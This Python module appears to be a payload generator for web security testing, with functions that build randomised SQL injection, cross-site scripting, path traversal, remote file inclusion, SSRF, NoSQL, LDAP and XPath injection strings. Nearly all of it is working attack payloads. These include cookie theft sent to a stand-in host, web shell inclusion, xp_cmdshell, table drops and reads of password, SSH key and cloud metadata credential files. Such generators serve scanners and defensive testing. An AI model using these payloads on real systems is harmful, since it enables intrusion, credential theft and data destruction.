"""Attacks on queries, pages, paths and addresses: one value per call."""
FUNCTIONS = ["alert(1)", "alert(document.domain)", "confirm`1`", "prompt(1)", "print()", "eval(name)", "fetch('//x.example/'+document.cookie)",
             "import('//x.example/a.js')", "top['al'+'ert'](1)", "self[atob('YWxlcnQ=')](1)", "location='javascript:alert%281%29'",
             "eval(atob('YWxlcnQoMSk='))", "new Image().src='//x.example/?'+document.cookie", "[1].find(alert)", "setTimeout('alert(1)')",
             "window.onerror=alert;throw 1", "Function('alert(1)')()", "document.write('<img src=//x.example>')", "navigator.sendBeacon('//x.example',document.cookie)"]
EVENTS = "onload onerror onfocus onmouseover onclick onanimationstart ontoggle onpointerenter onbeforetoggle oncanplay onscrollend onwheel ontransitionend onpageshow onhashchange onauxclick onbegin oncontentvisibilityautostatechange".split()


def sql(random):
    """A value behind a number or in quotes of a statement."""
    quote = random.choice(["'", "'", "\"", "", "')", "'))", "\")", ")"])
    number = random.randint(1, 9999)
    first = random.choice(["1", "-1", "x", "admin", "0", "a@b.example", str(number), ""])
    column = random.choice(["password", "secret", "email", "table_name", "credit_card", "name"])
    table = random.choice(["users", "members", "information_schema.tables", "accounts", "sqlite_master", "pg_shadow", "all_tables", "mysql.user"])
    nulls = ",".join(random.choice(["NULL", "1", column, "@@version", "0x41", "user()", f"concat({column},0x3a,name)"]) for _ in range(random.randint(1, 5)))
    seconds = random.randint(1, 15)
    same = f"{number}={number}"
    end = random.choice(["-- ", "-- -", "#", "--+", "/*", ";--", ";%00", f" AND {quote}a{quote}={quote}a" if quote in ("'", "\"") else "--"])
    body = random.choice([
        f" OR {same}{end}", f" AND {same}{end}", f" OR {quote[:1]}a{quote[:1]}={quote[:1]}a", f" OR 1{end}", f" OR true{end}", f"{end}",
        f" UNION SELECT {nulls} FROM {table}{end}", f" UNION ALL SELECT {nulls}{end}", f" UNION DISTINCT SELECT {nulls} FROM {table} LIMIT 1{end}",
        f" AND SLEEP({seconds}){end}", f" AND (SELECT 1 FROM (SELECT(SLEEP({seconds})))a){end}", f"; WAITFOR DELAY '0:0:{seconds}'{end}",
        f" AND 1=(SELECT 1 FROM pg_sleep({seconds})){end}", f"||pg_sleep({seconds}){end}", f" AND BENCHMARK(5000000,MD5(1)){end}",
        f" AND {number}=DBMS_PIPE.RECEIVE_MESSAGE('a',{seconds}){end}", f" OR IF({same},SLEEP({seconds}),0){end}",
        f" AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT {column} FROM {table} LIMIT 1))){end}", f" AND UPDATEXML(1,CONCAT(0x7e,VERSION()),1){end}",
        f" AND CAST((SELECT {column} FROM {table} LIMIT 1) AS INT)=1{end}", f" AND 1=CONVERT(INT,@@version){end}", f" AND GTID_SUBSET(version(),1){end}",
        f" ORDER BY {random.randint(1, 30)}{end}", f" GROUP BY {column} HAVING 1=1{end}", f" PROCEDURE ANALYSE(){end}",
        f"; DROP TABLE {table}{end}", f"; INSERT INTO {table} VALUES (1,2){end}", f"; UPDATE {table} SET {column}=1{end}", f"; EXEC xp_cmdshell 'whoami'{end}",
        f"; EXEC master..xp_dirtree '//x.example/a'{end}", f"; SELECT pg_sleep({seconds}){end}", f"; COPY {table} TO PROGRAM 'id'{end}", f"; DELETE FROM {table}{end}",
        f" AND ASCII(SUBSTRING((SELECT {column} FROM {table} LIMIT 0,1),{seconds},1))>{number % 128}{end}", f" AND (SELECT COUNT(*) FROM {table})>0{end}",
        f" AND EXISTS(SELECT * FROM {table}){end}", f" AND LENGTH(DATABASE())>{seconds}{end}", f" INTO OUTFILE '/var/www/html/a.php'{end}",
        f" AND LOAD_FILE('/etc/passwd') IS NOT NULL{end}", f" RLIKE (SELECT (CASE WHEN ({same}) THEN 1 ELSE 0x28 END)){end}", f" AND {number} BETWEEN 0 AND {number}{end}",
        f" AND {column} LIKE '%a%'{end}", f" AND {column} IS NOT NULL{end}", f" OR {column} REGEXP '^a'{end}", f"||(SELECT {column} FROM {table})||'", f" XOR {same}{end}",
        f" && {same}{end}", f" || {same}{end}", f" AND JSON_EXTRACT('{{\"a\":1}}','$.a')=1{end}", f" AND '{{\"a\":1}}'::jsonb @> '{{\"a\":1}}'{end}",
        f" AND 1 IN (SELECT {column} FROM {table}){end}", f"; DECLARE @q NVARCHAR(99)=0x41;EXEC(@q){end}", f"-(SELECT 0 FROM {table}){end}", f"+(SELECT {column} FROM {table} LIMIT 1)+'",
        f" AND MAKE_SET({same},1){end}", f" AND ROW(1,1)>(SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM {table} GROUP BY x){end}", f" LIMIT 0,1 INTO @a{end}",
        f" AND UTL_INADDR.GET_HOST_ADDRESS((SELECT {column} FROM {table})) IS NOT NULL{end}", f" AND XMLTYPE('<a>'||user||'</a>') IS NULL{end}",
    ])
    return first + quote + body


def script(random):
    """Markup or script from one of the places of a page."""
    call = random.choice(FUNCTIONS)
    event = random.choice(EVENTS)
    close = random.choice(["", "", "\">", "'>", "</textarea>", "</title>", "-->", "</script>", "hello "])
    space = random.choice([" ", " ", "/", "\n", "\t"])
    quote = random.choice(["", "\"", "'"])
    return random.choice([
        f"{close}<script>{call}</script>", f"{close}<script src=//x.example/a.js></script>", f"{close}<script{space}src=data:,{call}></script>",
        f"{close}<img src=x{space}{event}={quote}{call}{quote}>", f"{close}<svg{space}onload={quote}{call}{quote}>", f"{close}<svg><animate{space}onbegin={call} attributeName=x dur=1s>",
        f"{close}<body{space}onload={call}>", f"{close}<iframe{space}src=\"javascript:{call}\">", f"{close}<iframe srcdoc=\"<script>{call}</script>\">",
        f"{close}<a{space}href=\"javascript:{call}\">click</a>", f"{close}<details open{space}ontoggle={call}>", f"{close}<input autofocus{space}onfocus={call}>",
        f"{close}<video><source{space}onerror={call}></video>", f"{close}<object data=\"javascript:{call}\">", f"{close}<embed src=\"javascript:{call}\">",
        f"{close}<form action=\"javascript:{call}\"><button>x</button></form>", f"{close}<button formaction=javascript:{call}>x", f"{close}<math><a xlink:href=\"javascript:{call}\">x",
        f"{close}<meta http-equiv=refresh content=\"0;url=javascript:{call}\">", f"{close}<base href=//x.example/>", f"{close}<link rel=stylesheet href=//x.example/a.css>",
        f"{close}<style>@import '//x.example/a.css';</style>", f"{close}<marquee{space}onstart={call}>", f"{close}<x{space}{event}={call} tabindex=1>",
        f"\" {event}={call} x=\"", f"' {event}={call} x='", f"\" autofocus {event}=\"{call}", f"';{call};//", f"\";{call};//", f"'-{call}-'", f"\"-{call}-\"", f"`${{{call}}}`",
        f"javascript:{call}", f"JaVaScRiPt:{call}", f"java\tscript:{call}", f"javascript:/*--></title></style></script><svg/onload='{call}'>", f"data:text/html,<script>{call}</script>",
        f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"\\';{call}//", f"</script><script>{call}</script>", f"{close}<svg><script href=data:,{call} />",
        f"{close}<noscript><p title=\"</noscript><img src=x onerror={call}>\">", f"{close}<math><mtext><table><mglyph><style><img src onerror={call}>",
        f"{{{{constructor.constructor('{call[:9]}')()}}}}", f"{close}<img src=`x`{event}={call}>", f"{close}<portal src=javascript:{call}>", f"{close}<isindex type=image src=1 onerror={call}>",
        f"{close}<div style=\"background:url(javascript:{call})\">", f"{close}<div style=width:expression({call})>", f"{close}<template><s><script>{call}</script>", f"{close}<img/src/onerror={call}>",
        f"[click](javascript:{call})", f"{close}<audio src{space}onloadstart={call}>", f"{close}<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\">",
    ])


def path(random):
    """A file that is not meant for the client."""
    target = random.choice(["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini", "boot.ini", "WEB-INF/web.xml", "wp-config.php", ".env", ".git/config",
                            "var/log/apache2/access.log", "root/.ssh/id_rsa", "home/app/.aws/credentials", "windows/system32/drivers/etc/hosts", "config/database.yml", "app/config.php", "usr/local/etc/php.ini", "proc/self/cmdline", "etc/mysql/my.cnf", "inetpub/wwwroot/web.config"])
    up = "../" * random.randint(1, 10)
    return random.choice([f"{up}{target}", f"{up}{target}", f"{up}{target}%00.png", f"{up}{target}\0", f"images/{up}{target}", f"/{target}", f"/var/www/images/{up}{target}", f"....//....//....//{target}",
                          f"..\\..\\..\\{target}".replace("/", "\\"), f"C:\\{target}".replace("/", "\\"), f"file:///{target}", f"./{up}{target}", f"php://filter/convert.base64-encode/resource={target}", f"/./././{target}",
                          f"php://filter/read=string.rot13/resource=index.php", f"{up}{target}?x=1", f"/etc/./passwd", f"zip://upload.zip#shell.php", f"/%5c../{up}{target}", f"{up}index.php", f"//{target}", f"phar://upload.jpg/a"])


def remote_file(random):
    """A program of another server to be included."""
    host = random.choice(["x.example", "198.51.100.7", "198.51.100.7:8000", "user@x.example"])
    return random.choice([f"http://{host}/shell.txt?", f"https://{host}/c99.txt", f"ftp://{host}/shell.php", f"http://{host}/cmd.gif?", f"//{host}/shell.php?", f"http://{host}/r57.txt%00", f"hTTp://198.51.100.7/a.php",
                          f"http://198.51.100.7/x.sh", f"data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+", f"data:text/plain,<?php phpinfo();?>", f"php://input", f"expect://id", f"http://198.51.100.7/shell.jsp"])


def ssrf(random):
    """An address that only the server can reach."""
    host = random.choice(["127.0.0.1", "localhost", "169.254.169.254", "[::1]", "0.0.0.0", "10.0.0.5", "192.168.1.1", "172.16.0.10", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "metadata.google.internal",
                          "[::ffff:127.0.0.1]", "127.0.0.1.nip.io", "localtest.me", "x.example@127.0.0.1", "100.100.100.200", "[::]", "0", "kubernetes.default.svc", "0x7f.0.0.1", "①②⑦.⓪.⓪.①", "127。0。0。1"])
    port = random.choice(["", "", ":80", ":8080", ":22", ":6379", ":9200", ":2375"])
    tail = random.choice(["/", "/admin", "/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/computeMetadata/v1/", "/server-status", "", "/v1/agent/self"])
    return random.choice([f"http://{host}{port}{tail}"] * 5 + [f"https://{host}{port}{tail}", f"//{host}{port}{tail}", f"gopher://{host}:6379/_INFO%0d%0a", f"dict://{host}:11211/stat", f"ftp://{host}/", f"ldap://{host}:389/x",
                          f"file:///etc/passwd", f"jar:http://{host}!/a", f"netdoc:///etc/hosts", f"sftp://{host}:22/", f"http:/\\{host}{tail}", f"http://x.example#@{host}/", f"tftp://{host}/a"])


def nosql(random):
    """A value that a document store reads as a query or program."""
    return random.choice(["{\"$gt\":\"\"}", "{\"$ne\":null}", "[$ne]=1", "' || '1'=='1", "'||'a'=='a", "'; return true; var x='", "' && this.password.match(/.*/)//+%00", "'; while(true){}; var y='", "1'; sleep(5000); '",
                          "{\"$where\":\"sleep(1000)\"}", "{\"$regex\":\".*\"}", "'; return this.a != 'x", "admin' || 'a'=='a", "a'; return db.getCollectionNames(); var z='a", "true, $where: '1 == 1'", ", $where: '1 == 1'", "$where: '1 == 1'",
                          "db.users.find({})", "'} , $or: [ {}, {'a':'a", "{ $ne: 1 }", "'; it=new Date();do{pt=new Date();}while(pt-it<5000);'", "||1==1//", "' || 1==1//", "{\"$or\":[{},{\"a\":\"a\"}]}", "this.constructor.constructor('return 1')()",
                          "function(){return true}", "{\"username\":{\"$in\":[\"admin\"]}}", "';return(true);var a='"])


def ldap(random):
    """A value that changes the filter of a directory."""
    name = random.choice(["uid", "cn", "mail", "objectClass", "userPassword", "sn", "memberOf"])
    return random.choice([f"*)({name}=*))(|({name}=*", f"*)(|({name}=*", f"admin)(&)", f"*))%00", f"admin*)((|{name}=*)", f"*)({name}=*)", f"x)({name}=*))(&({name}=*", f"*()|&'", f"(&({name}=*))", f"*)(&", f")(|({name}=*", f"admin)(!(&(1=0",
                          f"*)|({name}=*", f"*)(objectClass=*))(&(objectClass=void", f"a*)({name}=b*", f"(|({name}=admin)({name}=root))"])


def xpath(random):
    """A value that changes a query of an XML document."""
    return random.choice(["' or '1'='1", "' or ''='", "x' or name()='username' or 'x'='y", "' and count(/*)=1 and '1'='1", "'] | //user/*[contains(*,'", "' or count(parent::*[position()=1])=0 or 'a'='b", "' and string-length(name(/*[1]))=4 and '1'='1",
                          "//user[1]", "admin' or '1'='1' or 'a'='a", "' or substring(name(parent::*[position()=1]),1,1)='a", "')] | //password | a[('", "1 or 1=1", "' or contains(name,'adm') or '", "\" or 1=1 or \"\"=\"", "' and doc('http://x.example/')", "' or true() or '"])
